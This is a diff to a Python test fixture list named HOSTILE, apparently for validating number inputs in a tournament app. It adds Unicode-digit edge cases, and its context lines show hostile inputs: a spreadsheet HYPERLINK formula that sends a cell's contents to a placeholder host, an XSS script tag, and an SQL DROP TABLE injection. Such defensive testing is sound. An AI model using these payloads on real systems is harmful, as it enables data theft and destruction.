@@ -44,6 +44,8 @@ HOSTILE = [
     "1.5",
     "0x10",
     "١٢",  # Arabic-Indic digits
+    "²",  # a digit to str.isdigit(), not a number to int()
+    "100, ²",
     '=HYPERLINK("http://x/?"&A1,"Clicca")',
     "<script>alert(1)</script>",
     "'; DROP TABLE tournaments_pair; --",
